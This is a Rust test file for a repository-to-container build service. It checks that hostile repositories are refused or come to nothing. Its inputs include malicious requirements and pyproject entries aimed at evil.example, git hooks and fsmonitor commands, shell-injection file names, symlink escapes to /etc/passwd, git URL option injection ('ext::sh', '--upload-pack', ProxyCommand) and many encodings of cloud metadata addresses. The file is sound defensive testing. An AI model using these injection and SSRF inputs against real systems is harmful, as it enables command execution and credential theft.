@@ -1,0 +1,462 @@
+//! Repositories that mean harm: each is refused by name or comes to nothing, and a good one is built beside them.
+
+mod objects;
+mod packages;
+
+use std::path::Path;
+
+use codeloc_git::{Git, GitSettings};
+
+use super::{
+    Anonymous, BuildError, BuildSettings, CODE, OciBuilder, Repository, TestRegistry, Workshop, digest, git_settings,
+    layer, python,
+};
+use crate::{Builder, Limits, Request};
+
+/// Stands in every URL of the corpus that has a password, and may stand in no error.
+const SECRET: &str = "hunter2";
+
+enum Outcome {
+    /// Final, and the text says this.
+    Refused(&'static str),
+    Harmless,
+}
+use Outcome::{Harmless, Refused};
+
+enum Content {
+    /// Beside good code. `MARKER` is a file that exists once something ran, `EVIL` a server that must not be asked.
+    Files(&'static [(&'static str, &'static str)]),
+    /// Made out of git's objects; answers the commit.
+    Made(fn(&Repository) -> String),
+}
+use Content::{Files, Made};
+
+struct Case {
+    name: &'static str,
+    content: Content,
+    outcome: Outcome,
+}
+
+const fn case(name: &'static str, content: Content, outcome: Outcome) -> Case {
+    Case { name, content, outcome }
+}
+
+/// Runs wherever Python or a shell would read it.
+const PYTHON: &str = "open('MARKER', 'w')\n";
+
+const REQUIREMENTS: &[Case] = &[
+    case(
+        "an index with a password",
+        Files(&[("requirements.txt", "tiny\n--index-url https://me:hunter2@evil.example/simple\n")]),
+        Refused("requirements.txt:2: `--index-url https://**********@evil.example/simple` is refused"),
+    ),
+    case(
+        "an extra index",
+        Files(&[("requirements.txt", "--extra-index-url EVIL/simple?token=hunter2\n")]),
+        Refused("requirements.txt:1: `--extra-index-url"),
+    ),
+    case(
+        "an option behind a continuation",
+        Files(&[("requirements.txt", "tiny\n\ntiny \\\n  --index-url \\\n  EVIL\n")]),
+        Refused("requirements.txt:3: `"),
+    ),
+    case(
+        "an option behind a carriage return",
+        Files(&[("requirements.txt", "tiny\r--index-url EVIL\r")]),
+        Refused("requirements.txt:1: `"),
+    ),
+    case(
+        "an editable install",
+        Files(&[("requirements.txt", "-e .\n"), ("setup.py", PYTHON)]),
+        Refused("requirements.txt:1: `-e .` is refused"),
+    ),
+    case(
+        "a requirements file outside",
+        Files(&[("requirements.txt", "\n-r ../../../../etc/passwd\n")]),
+        Refused("requirements.txt:2: `-r ../../../../etc/passwd` is refused"),
+    ),
+    case(
+        "constraints of its own",
+        Files(&[("requirements.txt", "-c loose.txt\n"), ("loose.txt", "tiny>=0\n")]),
+        Refused("requirements.txt:1: `-c loose.txt` is refused"),
+    ),
+    case(
+        "a package from version control",
+        Files(&[("requirements.txt", "git+https://me:hunter2@evil.example/x.git\n")]),
+        Refused("requirements.txt:1: `git+https://**********@evil.example/x.git` is refused"),
+    ),
+    case(
+        "a package from a URL",
+        Files(&[("requirements.txt", "tiny @ EVIL/tiny-9-py3-none-any.whl\n")]),
+        Refused("requirements.txt:1: `tiny @ "),
+    ),
+    case(
+        "a package from a path",
+        Files(&[("requirements.txt", "./wheels/tiny-9-py3-none-any.whl\n")]),
+        Refused("requirements.txt:1: `./wheels/"),
+    ),
+    case(
+        "an environment variable",
+        Files(&[("requirements.txt", "tiny==${AWS_SECRET_ACCESS_KEY}\n")]),
+        Refused("requirements.txt:1: `tiny==${AWS_SECRET_ACCESS_KEY}` is refused"),
+    ),
+    case(
+        "a project whose dependencies a build would compute",
+        Files(&[("pyproject.toml", "[project]\nname = 'x'\ndynamic = ['dependencies']\n"), ("setup.py", PYTHON)]),
+        Refused("pyproject.toml: dynamic dependencies would need the project's own build"),
+    ),
+    case(
+        "a project that takes a package from elsewhere",
+        Files(&[(
+            "pyproject.toml",
+            "[project]\nname = 'x'\ndependencies = ['tiny']\n[tool.uv.sources]\ntiny = { url = 'EVIL/tiny.whl' }\n",
+        )]),
+        Refused("pyproject.toml:3: `tiny` is refused: [tool.uv.sources]"),
+    ),
+    case(
+        "a project with a URL and a password",
+        Files(&[("pyproject.toml", "[project]\ndependencies = ['x @ https://me:hunter2@evil.example/x.whl']\n")]),
+        Refused("pyproject.toml:2: `x @ https://**********@evil.example/x.whl` is refused"),
+    ),
+    case(
+        "a project that breaks off behind a password",
+        Files(&[("pyproject.toml", "[project]\ndependencies = ['x @ https://me:hunter2@evil.example/x.whl\n")]),
+        Refused("pyproject.toml: "),
+    ),
+    case(
+        "a requirements file of one endless line",
+        Made(|repository| {
+            repository.commit(&[CODE.as_slice(), &[("requirements.txt", &"x".repeat(5 << 20))]].concat())
+        }),
+        Refused("requirements.txt has 5242880 bytes"),
+    ),
+];
+
+const EXECUTION: &[Case] = &[
+    case(
+        "setup.py, a build back end and everything else that Python or pytest picks up",
+        Files(&[
+            ("setup.py", PYTHON),
+            ("conftest.py", PYTHON),
+            ("sitecustomize.py", PYTHON),
+            ("usercustomize.py", PYTHON),
+            ("evil.pth", "import os; open('MARKER', 'w')\n"),
+            ("backend.py", PYTHON),
+            ("setup.cfg", "[options]\nsetup_requires = evil\n"),
+            (
+                "pyproject.toml",
+                "[project]\nname = 'x'\nversion = '0'\n[build-system]\nrequires = ['evil']\nbuild-backend = 'backend'\nbackend-path = ['.']\n",
+            ),
+        ]),
+        Harmless,
+    ),
+    case(
+        "configuration of uv, pip and git",
+        Files(&[
+            ("uv.toml", "index-url = 'EVIL/simple'\npython-downloads = 'automatic'\n"),
+            ("pip.conf", "[global]\nindex-url = EVIL/simple\n"),
+            (".python-version", "3.6\n"),
+            (".env", "UV_INDEX_URL=EVIL/simple\n"),
+            (".gitconfig", "[core]\n\tfsmonitor = touch MARKER\n"),
+            (".lfsconfig", "[lfs]\n\turl = EVIL\n"),
+            ("pyproject.toml", "[tool.uv]\nindex-url = 'EVIL/simple'\n[[tool.uv.index]]\nurl = 'EVIL/simple'\n"),
+        ]),
+        Harmless,
+    ),
+    case(
+        "attributes that filter, substitute and leave out",
+        Files(&[(
+            ".gitattributes",
+            "* filter=evil diff=evil merge=evil export-subst ident text eol=crlf working-tree-encoding=latin-1\npipeline export-ignore\n",
+        )]),
+        Harmless,
+    ),
+    case("hooks", Files(&[("hooks/post-checkout", "#!/bin/sh\ntouch MARKER\n")]), Harmless),
+    case(
+        "a shell command as a name",
+        Files(&[("pipeline/$(touch MARKER); `touch MARKER`.py", PYTHON), ("pipeline/-rf", ""), ("--help", "")]),
+        Harmless,
+    ),
+];
+
+const FILES: &[Case] = &[
+    case(
+        "an absolute link",
+        Made(|repository| repository.with_link("pipeline/passwd", "/etc/passwd")),
+        Refused("symbolic link pipeline/passwd leaves"),
+    ),
+    case(
+        "a link upwards",
+        Made(|repository| repository.with_link("pipeline/up", "../../x")),
+        Refused("symbolic link pipeline/up leaves"),
+    ),
+    case(
+        "links that each stay inside, and leave together",
+        Made(|repository| {
+            repository.with_link("pipeline/root", "..");
+            repository.with_link("pipeline/shadow", "root/../../etc/shadow")
+        }),
+        Refused("symbolic link pipeline/shadow leaves"),
+    ),
+    case("a link to itself", Made(|repository| repository.with_link("pipeline/loop", "loop/loop")), Harmless),
+    case(
+        "a link with an endless target",
+        Made(|repository| repository.with_link_object("pipeline/long", &b"a/".repeat(100_000))),
+        Refused("symbolic link pipeline/long has a target of 200000 bytes"),
+    ),
+    case(
+        "a link whose target is not text",
+        Made(|repository| repository.with_link_object("pipeline/odd", b"\xff\xfe")),
+        Refused("symbolic link pipeline/odd"),
+    ),
+    case(
+        "a whiteout",
+        Files(&[("pipeline/.wh.definitions.py", "")]),
+        Refused("pipeline/.wh.definitions.py: names that begin with .wh."),
+    ),
+    case(
+        "a whiteout of a whole folder",
+        Files(&[(".wh..wh..opq/x", "")]),
+        Refused(".wh..wh..opq/x: names that begin with .wh."),
+    ),
+    case(
+        "a submodule",
+        Made(|repository| repository.with_entry("160000", b"vendor", &"1".repeat(40))),
+        Refused("vendor is a git submodule"),
+    ),
+    case(
+        "a submodule whose URL is an option",
+        Files(&[(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = -u./payload\n")]),
+        Refused("gitmodulesUrl"),
+    ),
+    case("a pipe", Made(|repository| repository.with_entry_of("10644", b"pipe")), Refused("pipe is a git submodule")),
+    case("a device", Made(|repository| repository.with_entry_of("20666", b"null")), Refused("null is a git submodule")),
+    case("a file with set-user-id", Made(|repository| repository.with_entry_of("104755", b"su")), Harmless),
+    case("the name ..", Made(|repository| repository.with_entry_of("100644", b"..")), Refused("hasDotdot")),
+    case(
+        "a name with slashes",
+        Made(|repository| repository.with_entry_of("100644", b"../x")),
+        Refused("fullPathname"),
+    ),
+    case("the name .git", Made(|repository| repository.with_entry_of("100644", b".git")), Refused("hasDotgit")),
+    case("the name .GIT", Made(|repository| repository.with_entry_of("100644", b".GIT")), Refused("hasDotgit")),
+    case(
+        "a name that some disks take for .git",
+        Made(|repository| repository.with_entry_of("100644", ".g\u{200c}it".as_bytes())),
+        Refused("hasDotgit"),
+    ),
+    case("the name git~1", Made(|repository| repository.with_entry_of("100644", b"GIT~1")), Refused("hasDotgit")),
+    case("one name twice", Made(Repository::with_the_same_name_twice), Refused("duplicateEntries")),
+    case(
+        "a name of two lines",
+        Made(|repository| repository.with_entry_of("100644", b"a\nlevel=error msg=forged")),
+        Refused("the path \"a\\nlevel=error msg=forged\" has control characters"),
+    ),
+    case(
+        "a name that is not UTF-8",
+        Made(|repository| repository.with_entry_of("100644", b"\xff")),
+        Refused("is not UTF-8"),
+    ),
+    case(
+        "a name that no disk takes",
+        Made(|repository| repository.with_entry_of("100644", &[b'n'; 256])),
+        Refused("a name has 256 bytes, 255 at most"),
+    ),
+    case(
+        "a path that no disk takes",
+        Made(|repository| repository.commit(&[(&format!("{}definitions.py", "deep/".repeat(300)), "")])),
+        Refused("a path has 1514 bytes, 1024 at most"),
+    ),
+    case(
+        "a pointer to a file elsewhere",
+        Files(&[("data.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")]),
+        Refused("data.bin is a Git LFS pointer"),
+    ),
+    case(
+        "a large file",
+        Made(|repository| repository.commit(&[CODE.as_slice(), &[("data.bin", &"0".repeat(9 << 20))]].concat())),
+        Refused("the commit's files have more than 8388608 bytes"),
+    ),
+    case(
+        "200,000 files in three objects",
+        Made(|repository| repository.with_tree_of_trees(2, 447)),
+        Refused("the commit has more than 50000 files"),
+    ),
+    case(
+        "a billion files in nine objects",
+        Made(|repository| repository.with_tree_of_trees(9, 10)),
+        Refused("the commit has more files than can be listed"),
+    ),
+    case(
+        "a tree where a commit should be",
+        Made(|repository| {
+            repository.commit(&CODE);
+            repository.git(&["rev-parse", "HEAD^{tree}"])
+        }),
+        Refused("is not a commit"),
+    ),
+    case(
+        "a text where a commit should be",
+        Made(|repository| {
+            repository.commit(&[("number", "1700000000")]);
+            repository.git(&["rev-parse", "HEAD:number"])
+        }),
+        Refused("is not a commit"),
+    ),
+];
+
+/// A server of which only the address matters: nobody may ask it.
+struct Evil(std::net::TcpListener);
+
+impl Evil {
+    fn start() -> Self {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        Self(listener)
+    }
+
+    fn url(&self) -> String {
+        format!("http://{}", self.0.local_addr().unwrap())
+    }
+
+    fn was_asked(&self) -> bool {
+        self.0.accept().is_ok()
+    }
+}
+
+fn made(content: &Content, repository: &Repository, marker: &Path, evil: &Evil) -> String {
+    match content {
+        Made(make) => make(repository),
+        Files(files) => {
+            let filled = |text: &str| {
+                // A marker in a name stands for the command that would make it, and a name holds no slash.
+                text.replace("MARKER", marker.to_str().unwrap()).replace("EVIL", &evil.url())
+            };
+            let files: Vec<(&str, String)> = files.iter().map(|(path, text)| (*path, filled(text))).collect();
+            let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (*path, text.as_str())).collect();
+            repository.commit(&[CODE.as_slice(), &files].concat())
+        }
+    }
+}
+
+#[tokio::test]
+async fn hostile_repositories_are_refused_or_come_to_nothing_and_a_good_one_is_built_beside_them() {
+    let (registry, evil, scratch) = (TestRegistry::start().await, Evil::start(), tempfile::tempdir().unwrap());
+    let marker = scratch.path().join("marker");
+    let uv = python::uv();
+    let wheels = python::wheels();
+    let workshop = Workshop::with(|settings| {
+        settings.limits = Limits { bytes: 8 << 20, ..Limits::default() };
+        settings.find_links = Some(wheels.path().to_path_buf());
+        settings.python = uv.is_some().then(python::python);
+        settings.uv = uv.unwrap_or_else(|| "no-uv-here".into());
+    });
+    let good = Repository::new();
+    let good_commit = good.commit(&CODE);
+    let cases: Vec<&Case> = [REQUIREMENTS, EXECUTION, FILES].into_iter().flatten().collect();
+    assert!(cases.len() >= 20);
+    let repositories: Vec<(Repository, String)> = cases
+        .iter()
+        .map(|case| {
+            let repository = Repository::new();
+            let commit = made(&case.content, &repository, &marker, &evil);
+            (repository, commit)
+        })
+        .collect();
+    let requests: Vec<Request> =
+        repositories.iter().map(|(repository, commit)| repository.request(&registry, commit)).collect();
+    let good_request = good.request(&registry, &good_commit);
+    let (built, good_image) = tokio::join!(
+        futures::future::join_all(requests.iter().map(|request| workshop.build(request))),
+        workshop.build(&good_request),
+    );
+
+    let good_image = good_image.unwrap();
+    let clean = layer(&registry, &good_image, "code");
+    for (case, built) in cases.iter().zip(&built) {
+        let name = case.name;
+        match (&case.outcome, built) {
+            (Refused(why), Err(BuildError::Terminal(text))) => {
+                assert!(text.contains(why), "{name}: {text}");
+                assert!(!text.contains(SECRET), "{name}: {text}");
+                assert!(text.len() < 2000, "{name}: {} bytes of error", text.len());
+            }
+            (Harmless, Ok(image)) => {
+                let code = layer(&registry, image, "code");
+                assert!(clean.iter().all(|(path, content)| code.get(path) == Some(content)), "{name}: {code:?}");
+                assert!(
+                    code.keys()
+                        .all(|path| "opt/codeloc/code/".starts_with(path.as_str())
+                            || path.starts_with("opt/codeloc/code/")),
+                    "{name}"
+                );
+            }
+            (_, other) => panic!("{name}: {other:?}"),
+        }
+    }
+    assert!(!marker.exists(), "something ran");
+    assert!(!evil.was_asked(), "a server was asked that only a repository names");
+    // And alone, with nothing of before.
+    assert_eq!(
+        digest(&Workshop::new().build(&good.request(&TestRegistry::start().await, &good_commit)).await.unwrap()),
+        digest(&good_image)
+    );
+}
+
+#[tokio::test]
+async fn urls_that_reach_for_more_than_a_repository_are_refused_without_their_secrets() {
+    let (registry, repository, work) = (TestRegistry::start().await, Repository::new(), tempfile::tempdir().unwrap());
+    let marker = work.path().join("marker");
+    let git = Git::new(GitSettings { timeout: std::time::Duration::from_secs(20), ..git_settings(work.path(), false) });
+    let builder = OciBuilder::new(BuildSettings::new(work.path().join("build")), git, Anonymous).unwrap();
+    let commit = repository.commit(&CODE);
+    for url in [
+        "ext::sh -c touch% MARKER",
+        "ext::sh -c touch% MARKER://x",
+        "fd::17/x",
+        "file:///etc",
+        "/etc",
+        "../x",
+        "--upload-pack=touch MARKER",
+        "ssh://-oProxyCommand=touch%20MARKER/x",
+        "http://me:hunter2@github.com/o/r",
+        "git://github.com/o/r",
+        "https://localhost/o/r",
+        "https://127.0.0.1:8443/o/r",
+        "https://127.1/o/r",
+        "https://me:hunter2@[::1]/o/r",
+        "https://[::ffff:127.0.0.1]/o/r",
+        "https://0/o/r",
+        "https://dagster.localhost./o/r",
+        "https://169.254.169.254/latest/meta-data",
+        "https://me:hunter2@169.254.170.2/v2/credentials",
+        "https://2852039166/x",
+        "https://0xA9FEA9FE/x",
+        "https://0XA9FEA9FE/x",
+        "https://169.254.43518/x",
+        "https://0251.0376.0251.0376/x",
+        "https://0xa9.254.0xa9.254/x",
+        "https://169.254.169.254./x",
+        "https://%31%36%39.254.169.254/x",
+        "https://\u{ff11}\u{ff16}\u{ff19}.254.169.254/x",
+        "https://169.254.169.254?@github.com/o/r",
+        "https://169.254.169.254#@github.com/o/r",
+        "https://169.254.169.254\\@github.com/o/r",
+        "https://[fe80::1%25eth0]/x",
+        "https://[fd00:ec2::254]/x",
+        "https://[::169.254.169.254]/x",
+        "https://[64:ff9b::169.254.169.254]/x",
+        "https://metadata.google.internal/x",
+        "https://instance-data/latest",
+        "https://instance-data.ec2.internal/latest",
+        "git@169.254.169.254:x",
+        "me@localhost:x",
+    ] {
+        let mut request = repository.request(&registry, &commit);
+        request.git_url = url.replace("MARKER", marker.to_str().unwrap());
+        let Err(BuildError::Terminal(text)) = builder.build(&request, &|_| ()).await else { panic!("{url}") };
+        assert!(text.contains("is refused"), "{url}: {text}");
+        assert!(!text.contains(SECRET), "{url}: {text}");
+    }
+    assert!(!marker.exists());
+}
